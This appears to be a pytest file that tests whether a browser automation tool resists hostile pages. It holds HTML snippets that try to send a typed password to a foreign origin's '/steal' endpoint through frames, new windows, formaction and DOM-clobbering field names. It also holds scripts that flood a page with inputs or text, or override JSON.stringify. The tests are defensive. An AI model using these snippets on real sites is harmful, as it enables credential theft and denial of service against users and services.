"""What a page may try: with what is typed into it, by markup alone, and with whoever reads it."""

import asyncio
from time import process_time

import pytest
from pydantic import SecretStr

from journeyman.adapters.playwright.page import ChromiumPage
from journeyman.adapters.playwright.snapshots import MOST
from journeyman.domain.page import Target
from journeyman.errors import OriginViolation, RecipeBroken
from journeyman.forms.kinds import Kind
from journeyman.forms.outcomes import usual_outcome
from journeyman.forms.read import read_forms

from .conftest import Site

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET = SecretStr("correct-Horse7battery")
PASSWORD = Target("textbox", "Password")
SIGN_IN, GO = Target("button", "Sign in"), Target("button", "Go")
FIELD = "<label>Password <input type=password name=pw></label>"

BUTTON = "<button>Sign in</button>"

ELSEWHERE = [
    "<iframe name=aside></iframe><form method={method} action='{to}/steal' target=aside>",
    "<iframe name=aside src='{to}/'></iframe><form method={method} action='{to}/steal' target=aside>",
    "<form method={method} action='{to}/steal' target=_blank>",
    "<form method={method} action='{to}/steal' target=window>",
    "<base target=_blank><form method={method} action='{to}/steal'>",
    "<form id=f method={method} action=/in><button form=f formaction='{to}/steal' formtarget=_blank>Go</button>",
    "<form method={method} action='{to}/steal' target=_blank><input name=target><input name=setAttribute>",
]


@pytest.mark.parametrize("method", ["get", "post"])
@pytest.mark.parametrize("html", ELSEWHERE)
async def test_a_form_sends_nothing_elsewhere_by_a_window_or_frame(
    tab: ChromiumPage, site: Site, foreign: Site, html: str, method: str
) -> None:
    """What is to be opened in a frame or a window of its own is opened in the tab, which does not leave the origin."""
    site.pages["/"] = html.format(method=method, to=foreign.origin) + FIELD + ("" if "Go" in html else BUTTON)
    foreign.pages |= {"/": "widget", "/steal": "thanks"}
    await tab.goto("/")
    await tab.fill(PASSWORD, SECRET)
    with pytest.raises(OriginViolation):
        await tab.click(GO if "Go" in html else SIGN_IN)
    assert [request for request in foreign.requests if "/steal" in request] == []


@pytest.mark.parametrize("method", ["get", "post"])
async def test_a_form_in_a_frame_sends_nothing_elsewhere(
    tab: ChromiumPage, site: Site, foreign: Site, method: str
) -> None:
    """A frame of the service's own is not led elsewhere by a form in it."""
    site.pages |= {
        "/": "<iframe src=/inner id=f></iframe>",
        "/inner": f"<form method={method} action='{foreign.origin}/steal'>{FIELD}{BUTTON}</form>",
    }
    await tab.goto("/")
    await tab.fill(Target("textbox", "Password", "#f"), SECRET)
    await tab.click(Target("button", "Sign in", "#f"))
    await asyncio.sleep(0.5)
    assert foreign.requests == []


async def test_a_form_for_a_window_of_its_own_goes_on_in_the_tab(tab: ChromiumPage, site: Site) -> None:
    """A visit has one tab: the page that follows is seen there."""
    site.pages |= {
        "/": f"<form method=post action=/in target=_blank>{FIELD}{BUTTON}</form>",
        "/in": "<h1>Welcome</h1>",
    }
    await tab.goto("/")
    await tab.fill(PASSWORD, SECRET)
    await tab.click(SIGN_IN)
    assert (await tab.snapshot()).headings == ("Welcome",)


async def test_a_form_may_be_sent_to_a_frame_of_the_pages_own(tab: ChromiumPage, site: Site) -> None:
    """Its answer is shown in the frame, and the page stays."""
    site.pages |= {
        "/": f"<iframe name=aside id=f></iframe><form method=post action=/in target=aside>{FIELD}{BUTTON}</form>",
        "/in": "<h1>Saved</h1>",
    }
    await tab.goto("/")
    await tab.fill(PASSWORD, SECRET)
    await tab.click(SIGN_IN)
    assert await tab.first_seen([Target("heading", "Saved", "#f")], within=5) == 0
    assert await tab.first_seen([PASSWORD], within=0) == 0


async def test_a_widget_of_somebody_elses_is_shown(tab: ChromiumPage, site: Site, foreign: Site) -> None:
    """Frames of other origins are fetched as ever."""
    site.pages["/"] = f"<h1>Join</h1><iframe src='{foreign.origin}/widget'></iframe>"
    foreign.pages["/widget"] = "<p>I am not a robot"
    await tab.goto("/")
    await asyncio.sleep(0.3)
    assert "GET /widget? " in foreign.requests


LARGE = {
    "fields": "const f = document.forms[0]; for (let i = 0; i < 8000; i++) f.append(document.createElement('input'))",
    "radio buttons": (
        "const f = document.forms[0]; for (let i = 0; i < 4000; i++) f.insertAdjacentHTML('beforeend', "
        "'<input type=radio name=r>')"
    ),
    "a name": "document.forms[0].email.placeholder = 'a'.repeat(1e6); document.title = 'a'.repeat(1e6)",
    "text": "document.body.insertAdjacentText('beforeend', 'a '.repeat(2e6))",
}


@pytest.mark.parametrize("script", LARGE.values(), ids=LARGE)
async def test_a_page_without_end_is_read_as_far_as_it_is_of_use(tab: ChromiumPage, site: Site, script: str) -> None:
    """What is read of it is bounded, and so is the time in which nothing else goes on in this process."""
    site.pages["/"] = (
        f"<form><label>Email <input name=email></label><button>Join</button></form><script>{script}</script>"
    )
    await tab.goto("/")
    snapshot = await tab.snapshot()
    began = process_time()
    (form,) = read_forms(snapshot)
    usual_outcome(snapshot)
    assert process_time() - began < 3
    assert len(snapshot.fields) <= MOST
    assert len(repr(snapshot)) < 1_000_000
    assert form.first(Kind.EMAIL)


async def test_a_page_that_changes_how_it_is_read(tab: ChromiumPage, site: Site) -> None:
    """It is told as a page that can't be read, and is no fault of ours."""
    for made in ("'nonsense'", "'[' . repeat(1e5)", "'a'.repeat(1e7)", "'{}'"):
        site.pages["/"] = f"<script>JSON.stringify = () => {made}</script>"
        await tab.goto("/")
        with pytest.raises(RecipeBroken, match=r"too large|from being read"):
            await tab.snapshot()
